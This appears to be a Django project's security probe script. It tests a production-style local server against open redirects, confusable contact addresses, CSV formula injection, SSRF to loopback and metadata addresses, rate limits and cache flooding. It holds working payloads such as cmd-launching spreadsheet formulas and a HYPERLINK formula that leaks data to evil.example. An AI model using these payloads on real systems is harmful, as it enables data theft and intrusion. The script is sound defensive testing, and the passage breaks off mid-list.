"""`make probe`: an attacker's probes against the site served the production way.

The site is started as `make serve` starts it (config.settings.production, gunicorn with
config/gunicorn.conf.py, a secret key, DJANGO_ALLOWED_HOSTS=127.0.0.1,localhost, no HTTPS
redirect, plain cookies) on a copy of var/chancery.sqlite3 in a temporary CHANCERY_VAR_DIR, so
nothing under var/ is written. A few hostile values are planted in the copy first: formula-like
names, cities, addresses and phones (for the CSV export), and a German mission whose stored
website and email are written to look official.

Probes, each printing `name | what was sent | what came back | PASS or FAIL`:

1. redirect: no 3xx leads off the site as a browser reads its Location, and the 404 page's
   language links stay on it;
2. confusable: the public correction form refuses a website or an email written to look
   official, and no page (the mission's own, the help page's answer cards, its vCard) links a
   stored one;
3. csv: no cell of the CSV exports starts a formula, except inert phone numbers; converted to
   xlsx by LibreOffice (when `soffice` is installed), no cell is a formula;
4. slow-clients: /healthz answers within 50 ms (median and p95) beside 4 slow readers of the
   GeoJSON export and 4 clients downloading exports in a loop;
5. no-database: a second server whose database port is closed keeps running and answers 503
   with Retry-After (a page, /healthz, the API);
6. rate-limit: of 22 concurrent valid suggestions from one client across 2 workers, exactly
   CHANCERY_SUGGESTIONS_PER_HOUR are accepted;
7. page-cache: random query strings, or other spellings of the site's Host header, store no
   page (with Redis, the count of page keys stays put), while a query the view declares is
   served from the cache;
8. internal-fetch: the admin refuses loopback and metadata feed addresses, `ingest_news`
   refuses them with the same words whether the port is open or closed, and nothing is fetched;
9. schemathesis: `schemathesis run --checks all` over the live API finds no failure;
10. api, ingest-errors, settings: the smaller items (bounded offsets, HEAD, JSON errors, one-line
    import errors, production refusing debug or a wildcard host).

    python -m benchmarks.probes [PROBE …]     (default: all; exit status 1 if any failed)

PROBE_PORTS (default 18400-18499) bounds the ports used; PROBE_REDIS_URL (default
redis://127.0.0.1:6379/9, empty to skip) is a Redis database the page-cache probe FLUSHES and
uses for a second server.
"""

from __future__ import annotations

import csv
import html
import http.client
import http.server
import io
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field
from http.cookies import SimpleCookie
from pathlib import Path
from urllib.parse import urlencode

ROOT = Path(__file__).resolve().parent.parent
PORTS = os.environ.get("PROBE_PORTS", "18400-18499")
# benchmarks.load.free_port hands out ports within BENCH_PORTS.
os.environ["BENCH_PORTS"] = PORTS

from benchmarks.load import free_port  # noqa: E402
from benchmarks.slow_clients import under_slow_clients  # noqa: E402

REDIS_URL = os.environ.get("PROBE_REDIS_URL", "redis://127.0.0.1:6379/9")
SUGGESTIONS_PER_HOUR = int(os.environ.get("CHANCERY_SUGGESTIONS_PER_HOUR", "5"))
HEALTH_GOAL_MS = 50.0
EDITOR, EDITOR_PASSWORD = "probe-editor", "Probe-editor-password-" + uuid.uuid4().hex[:12]
#: A German mission whose website the probes try to change, and one whose stored contacts are
#: replaced by misleading ones in the copy.
GERMAN_MISSION = "embassy-of-germany-in-russia"
PLANTED_MISSION = "embassy-of-germany-in-rwanda"
CONFUSABLE_WEBSITE = "https://fake-visa-germany.example\\@germania.diplo.de/ru-de"
CONFUSABLE_EMAIL = '"?cc=attacker@evil.example&x="@germania.diplo.de'
#: Text a spreadsheet would run as a formula, planted in French missions (exported with
#: ?sending=france). The last four do not start with a character on OWASP's list; LibreOffice
#: decides whether they are formulas.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Book a visa appointment")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=1+1",
    '"=1+1"',
    "\u00a0=1+1",
    "\uff1d1+1",
    "\n=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INERT_CELL = re.compile(r"[0-9 +\-().,/|]*")
SERVE_ENV = {
    "DJANGO_SETTINGS_MODULE": "config.settings.production",
    "DJANGO_SECRET_KEY": "probe-" + uuid.uuid4().hex + uuid.uuid4().hex,
    "DJANGO_ALLOWED_HOSTS": "127.0.0.1,localhost",
    "DJANGO_SECURE_SSL_REDIRECT": "0",
    "DJANGO_SECURE_COOKIES": "0",
    "DJANGO_DEBUG": "0",
    "GUNICORN_ACCESS_LOG": "",
    "REDIS_URL": "",
    "DATABASE_URL": "",
    "CHANCERY_FETCH_ALLOW_PRIVATE": "",
    "CHANCERY_ALLOW_INSECURE_PRODUCTION": "",
    "PYTHONUNBUFFERED": "1",
}


# --- Output -----------------------------------------------------------------------------------


@dataclass
class Outcome:
    failures: list[str] = field(default_factory=list)
    lines: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)


OUTCOME = Outcome()


def short(value: object, limit: int = 110) -> str:
    text = value if isinstance(value, str) else repr(value)
    text = text.encode("unicode_escape").decode("ascii") if not text.isprintable() else text
    return text if len(text) <= limit else text[: limit - 1] + "…"


def report(name: str, sent: str, got: str, ok: bool) -> bool:
    with OUTCOME.lock:
        OUTCOME.lines += 1
        print(
            f"{name} | {short(sent)} | {short(got, 240)} | {'PASS' if ok else 'FAIL'}", flush=True
        )
        if not ok:
            OUTCOME.failures.append(f"{name}: {short(sent)}")
    return ok


def note(name: str, text: str) -> None:
    print(f"{name} | {text} | NOTE", flush=True)


# --- HTTP -------------------------------------------------------------------------------------


@dataclass
class Answer:
    status: int
    headers: http.client.HTTPMessage
    body: bytes
    seconds: float

    def header(self, name: str) -> str:
        return self.headers.get(name, "") or ""

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


def send(
    port: int,
    method: str,
    target: str | bytes,
    headers: dict[str, str] | None = None,
    body: bytes = b"",
    timeout: float = 60.0,
    host: str | None = None,
) -> Answer:
    """One request, written byte for byte as given (a request line browsers would never send
    included), on its own connection."""
    raw_target = target if isinstance(target, bytes) else target.encode("latin-1")
    lines = [
        method.encode("ascii") + b" " + raw_target + b" HTTP/1.1",
        f"Host: {host or f'127.0.0.1:{port}'}".encode(),
        b"Connection: close",
        *(f"{k}: {v}".encode("latin-1") for k, v in (headers or {}).items()),
    ]
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}".encode())
    started = time.perf_counter()
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(b"\r\n".join(lines) + b"\r\n\r\n" + body)
        response = http.client.HTTPResponse(sock, method=method)
        response.begin()
        data = response.read()
    return Answer(response.status, response.msg, data, time.perf_counter() - started)


def raw_exchange(port: int, request: bytes, timeout: float = 30.0) -> bytes:
    """Every byte the server sends back for `request`, until it closes the connection."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(request)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


class Browser:
    """Cookies and CSRF tokens, as a browser keeps them."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.cookies: dict[str, str] = {}

    def cookie_header(self) -> dict[str, str]:
        if not self.cookies:
            return {}
        return {"Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items())}

    def request(self, method: str, path: str, form: dict[str, str] | None = None) -> Answer:
        headers = self.cookie_header()
        body = b""
        if form is not None:
            body = urlencode(form).encode()
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        answer = send(self.port, method, path, headers, body)
        for value in answer.headers.get_all("Set-Cookie") or []:
            jar = SimpleCookie()
            jar.load(value)
            for name, morsel in jar.items():
                self.cookies[name] = morsel.value
        return answer

    def token(self, path: str) -> str:
        page = self.request("GET", path)
        found = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        if not found:
            raise RuntimeError(f"no CSRF token on {path} ({page.status})")
        return found.group(1)

    def submit(self, path: str, fields: dict[str, str]) -> Answer:
        return self.request("POST", path, {"csrfmiddlewaretoken": self.token(path), **fields})


def field_errors(page: str) -> dict[str, str]:
    """Field id → its error messages, as the form templates render them."""
    out: dict[str, str] = {}
    for ident, message in re.findall(r'<p class="error" id="id_(\w+)-error">(.*?)</p>', page, re.S):
        out[ident] = (
            out.get(ident, "") + " " + html.unescape(re.sub(r"<[^>]+>", "", message))
        ).strip()
    return out


def links(page: str) -> list[str]:
    return [html.unescape(h) for h in re.findall(r'(?:href|action|src)="([^"]*)"', page)]


def browser_host(base: str, location: str) -> str:
    """The host a browser goes to when it follows `location` from a page at `base` (WHATWG)."""
    import ada_url

    try:
        return ada_url.parse_url(ada_url.join_url(base, location))["host"]
    except ValueError:
        return ""  # a browser refuses the address: it goes nowhere


# --- Servers ----------------------------------------------------------------------------------


@dataclass
class Server:
    name: str
    process: subprocess.Popen
    port: int
    log: Path

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def running(self) -> bool:
        return self.process.poll() is None

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()


def _control_socket_args(tmp: Path, name: str) -> list[str]:
    """gunicorn 25+ opens a control socket in ~/.gunicorn by default: one per server here, so
    that another server on this machine keeps its own."""
    from gunicorn.config import Config

    if "control_socket" not in Config().settings:
        return []
    return ["--control-socket", str(tmp / f"{name}.ctl")]


def start_server(name: str, tmp: Path, env: dict[str, str], port: int | None = None) -> Server:
    """gunicorn as `make serve` starts it, on the temporary var directory."""
    port = port or free_port()
    log = tmp / f"{name}.log"
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gunicorn",
            "--config",
            "config/gunicorn.conf.py",
            "--bind",
            f"127.0.0.1:{port}",
            *_control_socket_args(tmp, name),
            "config.wsgi",
        ],
        cwd=ROOT,
        env={**os.environ, **env},
        stdout=log.open("wb"),
        stderr=subprocess.STDOUT,
    )
    return Server(name, process, port, log)


def wait_answering(server: Server, path: str = "/healthz", seconds: float = 120) -> None:
    """Until the server answers anything at all (a 503 included)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not server.running():
            tail = server.log.read_text(errors="replace")[-1500:]
            raise SystemExit(f"{server.name} exited ({server.process.returncode}):\n{tail}")
        try:
            send(server.port, "GET", path, timeout=10)
            return
        except OSError:
            time.sleep(0.3)
    raise SystemExit(f"{server.name} did not answer on {server.base}{path}")


def manage(env: dict[str, str], *args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=ROOT,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def checked(result: subprocess.CompletedProcess) -> subprocess.CompletedProcess:
    if result.returncode:
        raise SystemExit(f"{' '.join(result.args[1:])} failed:\n{result.stdout}{result.stderr}")
    return result


# --- The temporary site -----------------------------------------------------------------------


@dataclass
class Site:
    tmp: Path
    env: dict[str, str]
    port: int
    database: Path
    main: Server | None = None

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def sql(self, statement: str, parameters: tuple = ()) -> list[tuple]:
        with closing(sqlite3.connect(self.database, timeout=30)) as db, db:
            return db.execute(statement, parameters).fetchall()


def _plant(database: Path) -> None:
    """Hostile values in the copy: formula-like text in French missions, and misleading
    contacts stored for a German mission (as an old import could have stored them)."""
    with closing(sqlite3.connect(database)) as db, db:
        french = [
            row[0]
            for row in db.execute(
                "SELECT m.id FROM directory_mission m JOIN countries_country c "
                "ON c.id = m.sending_country_id WHERE c.iso_alpha2 = 'FR' ORDER BY m.id "
                "LIMIT ?",
                (len(FORMULAS),),
            )
        ]
        for pk, formula in zip(french, FORMULAS, strict=True):
            db.execute("UPDATE directory_mission SET name = ? WHERE id = ?", (formula, pk))
        first, second = french[0], french[1]
        db.execute(
            "UPDATE directory_mission SET city = ?, address = ?, image_author = ? WHERE id = ?",
            ("+cmd|' /C calc'!A0", "=1+1", "@evil", first),
        )
        phones = [
            {"raw": "=1+1", "e164": "", "valid": False},
            {"raw": "+7 495 937-95-00", "e164": "+74959379500", "valid": True},
        ]
        db.execute(
            "UPDATE directory_mission SET phones = ? WHERE id = ?", (json.dumps(phones), second)
        )
        db.execute(
            "UPDATE directory_mission SET website = ?, email = ? WHERE slug = ?",
            (CONFUSABLE_WEBSITE, CONFUSABLE_EMAIL, PLANTED_MISSION),
        )


def prepare(tmp: Path) -> Site:
    source = ROOT / "var" / "chancery.sqlite3"
    if not source.is_file():
        raise SystemExit(f"{source} is missing: run `make prepare` first")
    database = tmp / "chancery.sqlite3"
    # SQLite's backup API: a consistent copy even if a server is writing to the original.
    with (
        closing(sqlite3.connect(f"file:{source}?mode=ro", uri=True)) as original,
        closing(sqlite3.connect(database)) as copy,
    ):
        original.backup(copy)
    for folder in ("cache", "staticfiles"):  # derived data: copied to save time, then updated
        if (ROOT / "var" / folder).is_dir():
            shutil.copytree(ROOT / "var" / folder, tmp / folder, symlinks=True)
    env = {**SERVE_ENV, "CHANCERY_VAR_DIR": str(tmp)}
    port = free_port()
    checked(manage(env, "migrate", "--noinput", "-v0"))
    _plant(database)
    with ThreadPoolExecutor(3) as pool:
        jobs = [
            pool.submit(manage, env, "collectstatic", "--noinput", "-v0"),
            pool.submit(manage, env, "build_exports", "--base-url", f"http://127.0.0.1:{port}"),
            pool.submit(
                manage,
                {
                    **env,
                    "DJANGO_SUPERUSER_USERNAME": EDITOR,
                    "DJANGO_SUPERUSER_EMAIL": "editor@example.org",
                    "DJANGO_SUPERUSER_PASSWORD": EDITOR_PASSWORD,
                },
                "createsuperuser",
                "--noinput",
            ),
        ]
        for job in jobs:
            checked(job.result())
    return Site(tmp, env, port, database)


# --- A local web server for feeds ------------------------------------------------------------


class FeedServer:
    """A feed server on this machine, counting the requests it gets: an RSS feed at any path,
    a redirect to the cloud metadata address at /to-metadata, and 52 MB without a length at
    /huge."""

    RSS = (
        b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Local</title>'
        b"<link>https://news.example/</link><description>d</description><item><title>Internal"
        b"</title><link>https://news.example/a</link><description>secret</description>"
        b"<pubDate>Mon, 01 Dec 2025 10:00:00 GMT</pubDate></item></channel></rss>"
    )

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.bytes_sent = 0
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                outer.hits.append(self.path)
                if self.path.startswith("/to-metadata"):
                    self.send_response(302)
                    self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
                    self.end_headers()
                    return
                if self.path.startswith("/huge"):
                    self.send_response(200)
                    self.send_header("Content-Type", "application/rss+xml")
                    self.send_header("Connection", "close")
                    self.end_headers()
                    block = b"<!-- " + b"x" * 65_000 + b" -->\n"
                    with suppress(OSError):
                        self.wfile.write(b'<?xml version="1.0"?><rss><channel>')
                        for _ in range(52 * 2**20 // len(block)):
                            self.wfile.write(block)
                            outer.bytes_sent += len(block)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "application/rss+xml")
                self.send_header("Content-Length", str(len(FeedServer.RSS)))
                self.end_headers()
                self.wfile.write(FeedServer.RSS)

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# --- 1. Redirects -----------------------------------------------------------------------------

REDIRECT_TARGETS: list[bytes] = [
    b"/en//evil.example",
    b"/en/%2F%2Fevil.example",
    b"/en/%5C%5Cevil.example",
    b"/%2F%2Fevil.example/",
    b"//evil.example",
    b"/en/\t/evil.example",
    b"/en/%09/evil.example",
    b"/en/%5C/evil.example",
    b"/en/%2F%09%2Fevil.example",
    b"/en/%20//evil.example",
    b"//evil.example/in/russia/",
    b"/fr//evil.example",
    b"/en/http:%2F%2Fevil.example",
    b"/en//evil.example?next=//evil.example",
    b"/admin//evil.example",
]


def probe_redirect(site: Site) -> None:
    for target in REDIRECT_TARGETS:
        try:
            answer = send(site.port, "GET", target)
        except (OSError, http.client.HTTPException) as exc:
            report("redirect", f"GET {target!r}", f"{type(exc).__name__}: {exc}", False)
            continue
        page = f"{site.base}{target.decode('latin-1')}"
        location = answer.header("Location")
        problems = []
        if 300 <= answer.status < 400:
            host = browser_host(page, location)
            if host != f"127.0.0.1:{site.port}":
                problems.append(f"Location leads to {host or 'nowhere'}")
        # The 404 page's language picker (and any other link) stays off evil.example.
        off_site = sorted(
            {href for href in links(answer.text) if "evil" in browser_host(page, href)}
        )
        if off_site:
            problems.append(f"links off-site: {off_site[:3]}")
        got = f"{answer.status}" + (f" Location: {location}" if location else "")
        report(
            "redirect",
            f"GET {target!r}",
            got + "; " + ("; ".join(problems) or "stays on the site"),
            not problems,
        )


# --- 2. Confusable addresses ------------------------------------------------------------------


def _misleading_links(hrefs: list[str]) -> list[str]:
    """Links to the planted website, or mailto: links that could add a recipient or header
    (an unencoded "?" or "&")."""
    return [
        h
        for h in hrefs
        if "fake-visa" in h or (h.lower().startswith("mailto:") and ("?" in h or "&" in h))
    ]


def probe_confusable(site: Site) -> None:
    site.sql("DELETE FROM core_ratelimitbucket")
    path = f"/missions/{GERMAN_MISSION}/suggest/"
    cases = [
        ("website", CONFUSABLE_WEBSITE),
        ("email", CONFUSABLE_EMAIL),
    ]
    for name, value in cases:
        before = site.sql("SELECT count(*) FROM corrections_suggestion")[0][0]
        answer = Browser(site.port).submit(
            path,
            {
                name: value,
                "evidence_url": "https://www.auswaertiges-amt.de/de/service/laender/russland",
                "note": "probe",
            },
        )
        after = site.sql("SELECT count(*) FROM corrections_suggestion")[0][0]
        message = field_errors(answer.text).get(name, "")
        ok = answer.status == 400 and bool(message) and after == before
        report(
            "confusable",
            f"POST {path} {name}={value}",
            f"{answer.status}, {name} error: {message or 'none'}; suggestions stored {after - before}",
            ok,
        )
    # Contacts stored before the checks existed: shown as text with a caution, never linked.
    page = send(site.port, "GET", f"/missions/{PLANTED_MISSION}/")
    hrefs = links(page.text)
    linked = _misleading_links(hrefs)
    cautioned = 'class="flag"' in page.text and "caution" in page.text
    report(
        "confusable",
        f"GET /missions/{PLANTED_MISSION}/ (stored website {CONFUSABLE_WEBSITE}, email {CONFUSABLE_EMAIL})",
        f"{page.status}; links to them: {linked or 'none'}; caution shown: {cautioned}",
        page.status == 200 and not linked and cautioned,
    )
    answer_page = "/help/?nationality=germany&country=rwanda"
    page = send(site.port, "GET", answer_page)
    linked = _misleading_links(links(page.text))
    shown = PLANTED_MISSION in page.text
    report(
        "confusable",
        f"GET {answer_page} (its answer card shows the same mission)",
        f"{page.status}; mission shown: {shown}; links to the misleading addresses: "
        f"{linked or 'none'}",
        page.status == 200 and shown and not linked,
    )
    vcard = send(site.port, "GET", f"/missions/{PLANTED_MISSION}.vcf")
    bad = [
        line for line in vcard.text.splitlines() if "fake-visa" in line or "evil.example" in line
    ]
    report(
        "confusable",
        f"GET /missions/{PLANTED_MISSION}.vcf",
        f"{vcard.status}; lines with the misleading addresses: {bad or 'none'}",
        vcard.status == 200 and not bad,
    )


# --- 3. CSV formulas --------------------------------------------------------------------------


def _formula_cells(text: str) -> tuple[list[str], int, list[list[str]]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    bad = [
        c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS) and not INERT_CELL.fullmatch(c)
    ]
    planted = sum(any(c.endswith(f) and len(c) <= len(f) + 2 for c in cells) for f in FORMULAS)
    return bad, planted, rows


def _xlsx_check(csv_path: Path, tmp: Path) -> tuple[bool, str]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        return True, "skipped: soffice is not installed"
    try:
        import openpyxl
    except ImportError:
        return True, "skipped: openpyxl is not importable (pip install --target /tmp/… openpyxl)"
    # Separator, quote, UTF-8, from line 1, …, no "quoted field as text", detect special numbers
    # off, …, spaces kept, evaluate formulas ON: the most trusting way to open it.
    infilter = "CSV:44,34,76,1,,0,false,false,false,false,false,,true"
    profile = tmp / "lo-profile"
    result = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--norestore",
            f"--infilter={infilter}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp),
            str(csv_path),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    xlsx = csv_path.with_suffix(".xlsx")
    if not xlsx.is_file():
        return False, f"soffice did not convert it: {result.stdout[-200:]}{result.stderr[-200:]}"
    book = openpyxl.load_workbook(xlsx, data_only=False)
    formulas, phones_as_numbers = [], 0
    sheet = book.active
    header = [c.value for c in next(sheet.iter_rows(min_row=1, max_row=1))]
    e164 = header.index("phones_e164") if "phones_e164" in header else None
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.data_type == "f" or (
                isinstance(cell.value, str) and cell.value.startswith("=")
            ):
                formulas.append(f"{cell.coordinate}={cell.value!r}")
        if e164 is not None and isinstance(row[e164].value, int | float):
            phones_as_numbers += 1
    detail = (
        f"xlsx by LibreOffice: {len(formulas)} formula cell(s) {formulas[:4] if formulas else ''}"
        f"; E.164 phones read as numbers (their + lost): {phones_as_numbers}"
    )
    return not formulas, detail


def probe_csv(site: Site) -> None:
    for path in ("/exports/missions.csv", "/exports/missions.csv?sending=france"):
        answer = send(site.port, "GET", path)
        bad, planted, rows = _formula_cells(answer.text)
        ok = answer.status == 200 and not bad and planted == len(FORMULAS) and len(rows) > 10
        report(
            "csv",
            f"GET {path}",
            f"{answer.status}, {len(rows) - 1} rows; planted formula texts found {planted}/"
            f"{len(FORMULAS)}; cells starting a formula: {len(bad)} {bad[:3] if bad else ''}",
            ok,
        )
        if "sending=" in path and answer.status == 200:
            csv_path = site.tmp / "french-missions.csv"
            csv_path.write_bytes(answer.body)
            ok, detail = _xlsx_check(csv_path, site.tmp)
            report("csv", f"soffice --convert-to xlsx {path} (formulas evaluated)", detail, ok)


# --- 4. Slow clients --------------------------------------------------------------------------


def probe_slow_clients(site: Site, seconds: float = 10) -> None:
    latencies, completed, failed = under_slow_clients(site.base, seconds=seconds)
    p95 = latencies.quantile(0.95)
    ok = (
        latencies.median < HEALTH_GOAL_MS
        and p95 < HEALTH_GOAL_MS
        and latencies.failures == 0
        and completed > 0
        and failed == 0
    )
    report(
        "slow-clients",
        f"GET /healthz 10/s for {seconds:.0f} s beside 4 slow GeoJSON readers and 4 exporters",
        f"{latencies.summary()}; exports completed {completed}, failed {failed} "
        f"(goal: median and p95 under {HEALTH_GOAL_MS:.0f} ms)",
        ok,
    )


# --- 5. No database at start-up ---------------------------------------------------------------


def probe_no_database(server: Server, closed_port: int) -> None:
    try:
        wait_answering(server, seconds=60)
    except SystemExit as exc:
        report(
            "no-database",
            f"gunicorn with DATABASE_URL on closed port {closed_port}",
            str(exc)[:200],
            False,
        )
        return
    time.sleep(3)  # long enough for a master that gave up to have exited
    running = server.running()
    report(
        "no-database",
        f"gunicorn with DATABASE_URL=postgres://postgres@127.0.0.1:{closed_port}/x",
        f"master still running after start-up: {running}",
        running,
    )
    for path in ("/from/germany/in/russia/", "/healthz", "/api/v1/countries"):
        try:
            answer = send(server.port, "GET", path, timeout=30)
        except OSError as exc:
            report("no-database", f"GET {path}", f"{type(exc).__name__}: {exc}", False)
            continue
        retry = answer.header("Retry-After")
        traceback = "Traceback" in answer.text
        report(
            "no-database",
            f"GET {path}",
            f"{answer.status}, Retry-After: {retry or 'none'}, traceback shown: {traceback}",
            answer.status == 503 and bool(retry) and not traceback,
        )


# --- 6. Rate limit ----------------------------------------------------------------------------


def probe_rate_limit(site: Site, attempts: int = 22) -> None:
    site.sql("DELETE FROM core_ratelimitbucket")
    path = f"/missions/{GERMAN_MISSION}/suggest/"
    browser = Browser(site.port)
    token = browser.token(path)
    headers = {**browser.cookie_header(), "Content-Type": "application/x-www-form-urlencoded"}
    marker = uuid.uuid4().hex[:8]
    start = threading.Barrier(attempts)

    def post(index: int) -> str:
        body = urlencode(
            {
                "csrfmiddlewaretoken": token,
                "city": f"Moskva {marker}-{index}",
                "note": f"rate-limit probe {marker} #{index}",
                "evidence_url": f"https://www.auswaertiges-amt.de/probe/{index}",
            }
        ).encode()
        start.wait(timeout=30)
        answer = send(site.port, "POST", path, headers, body)
        if answer.status in (301, 302, 303) and "thanks" in answer.header("Location"):
            return "accepted"
        if answer.status == 429:
            return "too many"
        return f"{answer.status} {sorted(field_errors(answer.text).items())[:1]}"

    with ThreadPoolExecutor(attempts) as pool:
        outcomes = list(pool.map(post, range(attempts)))
    stored = site.sql(
        "SELECT count(*) FROM corrections_suggestion WHERE note LIKE ?", (f"%{marker}%",)
    )[0][0]
    accepted, refused = outcomes.count("accepted"), outcomes.count("too many")
    others = [o for o in outcomes if o not in ("accepted", "too many")]
    report(
        "rate-limit",
        f"{attempts} concurrent valid POSTs of {path} from one client (2 workers)",
        f"accepted {accepted}, too many {refused}, other {others[:2] or 0}; stored {stored}; "
        f"limit {SUGGESTIONS_PER_HOUR}",
        accepted == SUGGESTIONS_PER_HOUR == stored and refused == attempts - accepted,
    )


# --- 7. Page cache ----------------------------------------------------------------------------


def _random_queries() -> Iterator[str]:
    while True:
        word = uuid.uuid4().hex[:10]
        yield from (
            f"/search/?q={word}",
            f"/news/?country={word}",
            f"/advisories/?sort={word}",
            f"/in/russia/?{word}=1",
            f"/?utm_source={word}",
            f"/advisories/?level=2&{word}=",
        )


def _flood(port: int, seconds: float, threads: int = 3) -> tuple[int, list[str], list[str]]:
    """Random query strings for `seconds`: how many were sent, served from the cache (HIT) and
    stored in it (MISS: the page cache marks a page it has just stored)."""
    until = time.monotonic() + seconds
    hits: list[str] = []
    stored: list[str] = []
    sent = [0]
    lock = threading.Lock()

    def worker() -> None:
        for path in _random_queries():
            if time.monotonic() > until:
                return
            try:
                answer = send(port, "GET", path, timeout=30)
            except OSError:
                continue
            with lock:
                sent[0] += 1
                if answer.header("X-Cache") == "HIT":
                    hits.append(path)
                elif answer.header("X-Cache") == "MISS":
                    stored.append(path)

    pool = [threading.Thread(target=worker) for _ in range(threads)]
    for thread in pool:
        thread.start()
    for thread in pool:
        thread.join()
    return sent[0], hits, stored


def _known_variant_hits(port: int, path: str, tries: int = 8) -> list[str]:
    return [send(port, "GET", path).header("X-Cache") or "-" for _ in range(tries)]


def _host_variants(count: int = 40) -> list[str]:
    """Host headers naming this site, as Django accepts them (any port, any letter case, a
    final dot): each asks for the same page."""
    names = ["127.0.0.1", "localhost", "LOCALHOST", "LocalHost", "localhost."]
    return [f"{names[i % len(names)]}:{i + 1}" for i in range(count)]


def _host_flood(port: int) -> tuple[int, int]:
    """A cacheable page asked for under many Host spellings: (asked, stored)."""
    stored = 0
    variants = _host_variants()
    for host in variants:
        stored += send(port, "GET", "/advisories/", host=host).header("X-Cache") == "MISS"
    return len(variants), stored


def probe_page_cache_local(site: Site) -> None:
    sent, hits, stored = _flood(site.port, 3)
    report(
        "page-cache",
        f"3 threads x 3 s of random query strings (no Redis), e.g. {next(_random_queries())}",
        f"{sent} requests, X-Cache: HIT on {len(hits)}, stored (MISS) {len(stored)} "
        f"{stored[:2] if stored else ''}",
        sent > 0 and not hits and not stored,
    )
    asked, stored_pages = _host_flood(site.port)
    report(
        "page-cache",
        f"GET /advisories/ with {asked} Host spellings of this site (e.g. "
        f"{', '.join(_host_variants()[:5])})",
        f"pages stored (X-Cache: MISS): {stored_pages}",
        stored_pages <= 2,
    )
    marks = _known_variant_hits(site.port, "/advisories/?sort=level")
    report(
        "page-cache",
        "GET /advisories/?sort=level x8 (a declared variant; 2 workers, memory cache each)",
        f"X-Cache: {' '.join(marks)}",
        "HIT" in marks,
    )


def probe_page_cache_redis(server: Server, client, seconds: float = 10) -> None:
    def page_keys() -> int:
        return sum(1 for _ in client.scan_iter(match="*:page:*", count=1000))

    # A declared variant, asked twice: stored once, then served from Redis.
    marks = _known_variant_hits(server.port, "/advisories/?sort=level&issuer=us", tries=2)
    before, memory_before = page_keys(), client.info("memory")["used_memory"]
    sent, hits, stored = _flood(server.port, seconds)
    after, memory_after = page_keys(), client.info("memory")["used_memory"]
    report(
        "page-cache",
        f"3 threads x {seconds:.0f} s of random query strings, Redis db (page keys counted)",
        f"{sent} requests; page keys {before} -> {after}; Redis memory "
        f"{memory_before / 2**20:.1f} -> {memory_after / 2**20:.1f} MB; HITs {len(hits)}",
        sent > 0 and after - before <= 2 and not hits and not stored,
    )
    before = page_keys()
    asked, _stored = _host_flood(server.port)
    after = page_keys()
    report(
        "page-cache",
        f"GET /advisories/ with {asked} Host spellings of this site, Redis db",
        f"page keys {before} -> {after}",
        after - before <= 1,
    )
    report(
        "page-cache",
        "GET /advisories/?sort=level&issuer=us x2 (Redis)",
        f"X-Cache: {' '.join(marks)}",
        marks[-1] == "HIT",
    )


# --- 8. Internal fetches ----------------------------------------------------------------------


def _admin(site: Site) -> Browser:
    browser = Browser(site.port)
    answer = browser.submit(
        "/admin/login/?next=/admin/",
        {"username": EDITOR, "password": EDITOR_PASSWORD, "next": "/admin/"},
    )
    if answer.status != 302:
        raise RuntimeError(f"admin login failed: {answer.status}")
    return browser


def _one_line_problem(text: str, port: int | None) -> str:
    line = " ".join(text.split())
    return line.replace(str(port), "<port>") if port else line


def probe_internal_fetch(site: Site, feeds: FeedServer) -> None:
    closed = free_port()
    urls = [
        (f"http://127.0.0.1:{feeds.port}/feed", feeds.port),
        (f"http://127.0.0.1:{closed}/feed", closed),
        ("http://169.254.169.254/latest/meta-data/", None),
        (f"http://localhost:{feeds.port}/feed", feeds.port),
        (f"http://[::ffff:127.0.0.1]:{feeds.port}/feed", feeds.port),
